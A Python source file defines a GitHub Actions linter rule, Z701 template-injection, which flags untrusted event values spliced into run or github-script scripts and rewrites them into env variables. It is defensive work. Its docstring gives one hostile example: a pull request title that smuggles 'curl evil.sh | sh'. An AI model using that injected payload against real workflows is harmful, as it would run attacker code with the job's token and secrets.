"""Z701 template-injection."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, replace
from typing import ClassVar

from qmoi.check import security_util as su
from qmoi.check.base import Context, DocumentKind, Rule
from qmoi.check.registry import register
from qmoi.diagnostics import Edit, Fix, FixSafety, Severity
from qmoi.expr import ExpressionError, ast, parse_template
from qmoi.expr.template import Embedded
from qmoi.expr.yamlspan import value_span_to_source
from qmoi.model import EntryMap, Job, Step, Workflow, build_action
from qmoi.parse.nodes import Mapping, Scalar
from qmoi.source import Span


@dataclass(frozen=True, slots=True)
class _Finding:
    """A ``${{ }}`` of a script and the attacker-controllable values it would splice in."""

    segment: Embedded
    taints: tuple[su.Taint, ...]


@register
class TemplateInjection(Rule):
    """An attacker-controlled value expanded with ``${{ }}`` inside a script.

    What:
        Reports untrusted inputs — issue, pull request, comment and review titles and
        bodies, branch names (``github.head_ref``), commit messages and authors, wiki page
        names, … — written with ``${{ }}`` inside a ``run:`` script or the ``script:`` of
        ``actions/github-script``, also through an ``env`` variable that holds one
        (``${{ env.TITLE }}``). Values that only feed ``contains()``/``startsWith()``/
        ``endsWith()`` or a comparison are fine: the result is a boolean.

    Why:
        GitHub pastes the value into the script text before the shell runs it, so a pull
        request titled ``a"; curl evil.sh | sh; echo "`` runs commands with the job's
        token and secrets. An environment variable is data, never code
        (https://docs.github.com/en/actions/concepts/security/script-injections).

    Example:
        on: issues
        jobs:
          triage:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ github.event.issue.title }}"

    Fix safety:
        Unsafe: each expression moves into the step's ``env:`` under a new name and the
        script reads ``"$NAME"`` (bash/sh), ``$env:NAME`` (PowerShell) or
        ``process.env.NAME`` (github-script), quoted for where it stood. The script now
        sees the raw value, so code that relied on the old splicing may behave
        differently. No fix for other shells, quoted heredocs or ``${…}`` expansions.
    """

    code = "Z701"
    name = "template-injection"
    severity = Severity.WARNING
    targets: ClassVar[frozenset[DocumentKind]] = frozenset({"workflow", "action"})
    fix_availability = "sometimes"

    def job(self, ctx: Context, job_id: Scalar, job: Mapping) -> None:
        model = su.job_of(ctx.workflow, job_id.value)
        if model is None:
            return
        workflow = ctx.workflow
        for step in _flatten(model.steps):
            # The taints and the language are worked out only for a script that holds an
            # expression: most steps have none.
            script = _script_with_expression(step)
            if script is not None:
                env = _env_taints(workflow.env, model.env, step.env)
                _check_step(ctx, step, script, env, _language(step, model, workflow))

    def action(self, ctx: Context, root: Mapping) -> None:
        runs = build_action(root, ctx.source).runs
        for step in _flatten(runs.steps if runs is not None else ()):
            script = _script_with_expression(step)
            if script is not None:
                _check_step(ctx, step, script, _env_taints(step.env),
                            _language(step, None, None))


def _flatten(steps: Iterable[Step]) -> Iterable[Step]:
    for step in steps:
        yield step
        if step.parallel:
            yield from _flatten(step.parallel)


def _env_taints(*maps: EntryMap) -> su.EnvTaints:
    """Env names (workflow, then job, then step: the inner one wins) holding untrusted text."""
    found: su.EnvTaints = {}
    for entries in maps:
        for entry in entries:
            found.pop(entry.name.lower(), None)
            if entry.value and "${{" in entry.value:
                for taint in _template_taints(entry.value, {}):
                    found[entry.name.lower()] = (entry.name, taint.path)
    return found


def _template_taints(text: str, env: su.EnvTaints) -> list[su.Taint]:
    try:
        template = parse_template(text)
    except ExpressionError:
        return []
    return [t for expr in template.expressions for t in su.taints(expr, env)]


def _script(step: Step) -> tuple[Scalar, str] | None:
    """The script scalar and where it runs ("run" or "github-script")."""
    if step.run is not None:
        return step.run, "run"
    if su.is_action(step, "actions/github-script"):
        entry = step.with_.get("script")
        if entry is not None and entry.scalar is not None:
            return entry.scalar, "github-script"
    return None


def _script_with_expression(step: Step) -> tuple[Scalar, str] | None:
    found = _script(step)
    return None if found is None or "${{" not in found[0].value else found


def _check_step(ctx: Context, step: Step, found: tuple[Scalar, str], env: su.EnvTaints,
                language: str | None) -> None:
    script, where = found
    try:
        template = parse_template(script.value)
    except ExpressionError:
        return  # the expression rules report the syntax error
    findings = [
        _Finding(segment, tuple(taints))
        for segment in template.segments
        if isinstance(segment, Embedded) and (taints := su.taints(segment.expr, env))
    ]
    if not findings:
        return
    lang = "js" if where == "github-script" else language
    fix = _fix(ctx, step, script, template.segments, findings, lang)
    place = "run: script" if where == "run" else "github-script script"
    for finding in findings:
        for taint in finding.taints:
            source = value_span_to_source(script, ctx.source, taint.span)
            what = taint.path if taint.via is None else f"env.{taint.via} holds {taint.path}, which"
            # A fresh copy per finding: the fixer tells fixes apart by identity.
            ctx.report(source, f"{what} can be set by an outsider and is pasted into the "
                               f"{place} before it runs; pass it through an environment "
                               f"variable instead", fix=None if fix is None else replace(fix))


# --- which language the script is in -------------------------------------------------

def _language(step: Step, job: Job | None, workflow: Workflow | None) -> str | None:
    """"bash", "pwsh" or None (a shell we cannot rewrite for, or not known)."""
    shell = step.shell
    for defaults in (job.defaults if job else None, workflow.defaults if workflow else None):
        if shell is None and defaults is not None:
            shell = defaults.shell
    if shell is not None:
        first = shell.value.split(" ", 1)[0].lower()
        if "${{" in shell.value:
            return None
        return "bash" if first in ("bash", "sh") else "pwsh" if first in (
            "pwsh", "powershell") else None
    return None if job is None else _default_shell(job)


def _default_shell(job: Job) -> str | None:
    """bash on Linux and macOS, pwsh on Windows (workflow-syntax "defaults.run.shell")."""
    runs_on = job.runs_on
    if runs_on is None:
        return None
    if runs_on.expression is not None or runs_on.group is not None:
        matrix = job.matrix
        text = "" if matrix is None else str(matrix.to_json()).lower()
        return None if "windows" in text or runs_on.group is not None else "bash"
    return "pwsh" if any("windows" in label.lower() for label in runs_on.label_names) else "bash"


# --- the fix ----------------------------------------------------------------------------

_IDENT = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_")


def _replacement(lang: str, name: str, frame: su.Frame, text: str, hole: Span
                 ) -> tuple[Span, str] | None:
    """The value-text span to replace and its new text, or None when no safe rewrite."""
    state, opened = frame
    glued = text[hole.end : hole.end + 1] in _IDENT or text[hole.end : hole.end + 1] == ":"
    whole = opened == hole.start - 1 and text[hole.end : hole.end + 1] == text[opened]
    if lang == "js" and state in ("sq", "dq"):
        return _js_string(name, opened, text, hole)
    if lang == "bash":
        if su.is_code(state):
            return hole, f'"${name}"'
        if state in ("dq", "heredoc"):
            return hole, "${" + name + "}" if glued else f"${name}"
        if state == "sq":
            return (Span(opened, hole.end + 1), f'"${name}"') if whole else (hole, f"'\"${name}\"'")
        return (hole, f"${name}") if state == "comment" else None
    if lang == "pwsh":
        ref = "${env:" + name + "}" if glued else f"$env:{name}"
        if su.is_code(state) or state in ("dq", "hdq", "comment"):
            return hole, ref
        return (Span(opened, hole.end + 1), f"$env:{name}") if state == "sq" and whole else None
    ref = f"process.env.{name}"
    if su.is_code(state) or state in ("comment", "block"):
        return hole, ref
    return (hole, "${" + ref + "}") if state == "tpl" else None


def _js_string(name: str, opened: int, text: str, hole: Span) -> tuple[Span, str]:
    """Close the string literal around the hole and concatenate the variable."""
    ref = f"process.env.{name}"
    quote = text[opened]
    closes = text[hole.end : hole.end + 1] == quote
    if opened == hole.start - 1:  # at the start of the literal: no empty "" + …
        return (Span(opened, hole.end + 1), ref) if closes else (
            Span(opened, hole.end), f"{ref} + {quote}")
    return (Span(hole.start, hole.end + 1), f"{quote} + {ref}") if closes else (
        hole, f"{quote} + {ref} + {quote}")


def _contexts(lang: str, text: str, holes: dict[int, int]) -> dict[int, su.Frame]:
    scan = {"bash": su.bash_contexts, "pwsh": su.pwsh_contexts, "js": su.js_contexts}[lang]
    return scan(text, holes)


def _fix(ctx: Context, step: Step, script: Scalar, segments: Iterable[object],
         findings: list[_Finding], lang: str | None) -> Fix | None:
    if lang is None or script.anchor is not None or not step.span.contains(script.span):
        return None
    text = script.value
    holes = {s.span.start: s.span.end for s in segments if isinstance(s, Embedded)}
    frames = _contexts(lang, text, holes)
    names = _Names(step, text, holes)
    edits: list[Edit] = []
    for finding in findings:
        hole = finding.segment.span
        frame = frames.get(hole.start)
        probe = None if frame is None else _replacement(lang, "X", frame, text, hole)
        # A plain YAML scalar cannot start with a quote: it would become a quoted one.
        if probe is None or frame is None or (script.style == "" and probe[0].start == 0
                                              and probe[1][:1] in "\"'"):
            continue
        name = names.for_segment(finding.segment, text, finding.taints)
        change = _replacement(lang, name, frame, text, hole)
        assert change is not None
        edits.append(Edit(value_span_to_source(script, ctx.source, change[0]),
                          su.encode_in_scalar(change[1], script.style)))
    env_edit = _env_edit(ctx, step, names.new)
    if not edits or (names.new and env_edit is None):
        return None
    return Fix("move the untrusted expression into an env: variable", FixSafety.UNSAFE,
               (*edits, *((env_edit,) if env_edit else ())))


class _Names:
    """Environment variable names for the moved expressions: one per distinct expression,
    none reused from the step's env or the script, and existing ``env.X`` reused as X."""

    def __init__(self, step: Step, script: str, holes: dict[int, int]) -> None:
        outside, cursor = [], 0
        for start, end in sorted(holes.items()):
            outside.append(script[cursor:start])
            cursor = end
        outside.append(script[cursor:])
        # Windows compares names ignoring case, so compare them upper-cased.
        self.taken = {e.name.upper() for e in step.env} | {
            word.upper() for word in _words(" ".join(outside))}
        self.new: dict[str, str] = {}  # expression text → name

    def for_segment(self, segment: Embedded, text: str, taints: tuple[su.Taint, ...]) -> str:
        expr = segment.expr
        if len(taints) == 1 and taints[0].via is not None and isinstance(expr, ast.Index):
            return taints[0].via
        source = text[segment.span.start : segment.span.end]
        if source not in self.new:
            self.new[source] = self._fresh(_base_name(taints[0].path))
        return self.new[source]

    def _fresh(self, base: str) -> str:
        name, n = base, 1
        while name in self.taken:
            n += 1
            name = f"{base}_{n}"
        self.taken.add(name)
        return name


def _words(text: str) -> set[str]:
    current: list[str] = []
    words: set[str] = set()
    for c in text + " ":
        if c in _IDENT:
            current.append(c)
        elif current:
            words.add("".join(current))
            current = []
    return words


def _base_name(path: str) -> str:
    """github.event.pull_request.head.ref → PR_HEAD_REF (``GITHUB_`` names are reserved)."""
    parts = [p for p in path.split(".") if p not in ("github", "event", "*")]
    parts = ["PR" if p == "pull_request" else p for p in parts] or ["UNTRUSTED"]
    suffix = "_JSON" if path.endswith(".*") else ""
    return "_".join(parts[-3:]).upper().replace("-", "_") + suffix


def _env_edit(ctx: Context, step: Step, new: dict[str, str]) -> Edit | None:
    if not new:
        return None
    text = ctx.source.text
    env_key = step.node.key("env")
    env = step.node.get("env")
    if env_key is None:
        anchor = step.node.key("run" if step.run is not None else "with")
        if anchor is None:
            return None
        pos = anchor.span.start
        if step.node.flow:
            entries = ", ".join(f"{n}: {su.yaml_scalar(v, flow=True)}" for v, n in new.items())
            return Edit(Span(pos, pos), f"env: {{{entries}}}, ")
        indent, nl = su.indent_at(text, pos), su.newline_at(text, pos)
        lines = "".join(f"{nl}{' ' * (indent + 2)}{n}: {su.yaml_scalar(v, flow=False)}"
                        for v, n in new.items())
        return Edit(Span(pos, pos), f"env:{lines}{nl}{' ' * indent}")
    if not isinstance(env, Mapping) or not step.span.contains(env.span):
        return None
    if not env.pairs:
        if not env.flow:
            return None
        entries = ", ".join(f"{n}: {su.yaml_scalar(v, flow=True)}" for v, n in new.items())
        return Edit(env.span, f"{{{entries}}}")
    pos = env.pairs[0][0].span.start
    if env.flow:
        entries = "".join(f"{n}: {su.yaml_scalar(v, flow=True)}, " for v, n in new.items())
        return Edit(Span(pos, pos), entries)
    indent, nl = su.indent_at(text, pos), su.newline_at(text, pos)
    return Edit(Span(pos, pos), "".join(f"{n}: {su.yaml_scalar(v, flow=False)}{nl}{' ' * indent}"
                                        for v, n in new.items()))
